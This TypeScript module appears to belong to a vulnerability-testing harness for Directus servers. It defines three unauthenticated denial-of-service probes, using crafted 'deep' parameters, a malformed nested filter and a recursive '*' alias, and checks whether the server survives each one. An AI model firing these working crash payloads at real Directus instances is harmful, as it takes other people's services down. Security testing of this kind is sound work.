/** Through what a query holds: on plain Directus each of these is the end of the process, so they come last. */
import { asAnybody } from './requests.ts';
import { harm, type Attack, type Target } from './target.ts';

/** Whether the server still answers as it did. One that has died is given the moment its death takes. */
async function isWell(target: Target, path: string): Promise<boolean> {
  for (let each = 0; each < 3; each += 1) {
    const status = await asAnybody(target)('GET', path).then(
      (answer) => answer.status,
      () => 0,
    );
    if (status !== 200 || !target.isAlive()) return false;
  }
  return true;
}

export const QUERY_ATTACKS: readonly Attack[] = [
  {
    id: 'GHSA-gwvv-rr68-cmv6',
    what: 'deep writes to functions every object inherits',
    async attempt(target) {
      const path = `/items/${target.open_collection}?limit=1`;
      for (const key of ['toString', 'hasOwnProperty', 'valueOf', 'propertyIsEnumerable']) {
        const deep = encodeURIComponent(JSON.stringify({ [key]: { call: { _limit: 1 } } }));
        await asAnybody(target)('GET', `/server/info?deep=${deep}`).catch(() => null);
      }
      return harm(!(await isWell(target, path)), 'the server does not answer any more');
    },
  },
  {
    id: 'directus#27676',
    what: 'deep holds a filter that is not JSON, two levels down',
    async attempt(target) {
      await asAnybody(target)('GET', '/server/info?deep[a][b][_filter]=notjson').catch(() => null);
      return harm(!(await isWell(target, '/server/ping')), 'the process has ended');
    },
  },
  {
    id: 'the alias called *',
    what: 'an alias is found again among the fields that * stands for, until there is no memory left',
    async attempt(target) {
      await asAnybody(target)('GET', `/items/${target.open_collection}?fields=*&alias[*]=id`).catch(
        () => null,
      );
      return harm(!(await isWell(target, '/server/ping')), 'the process has ended');
    },
  },
];
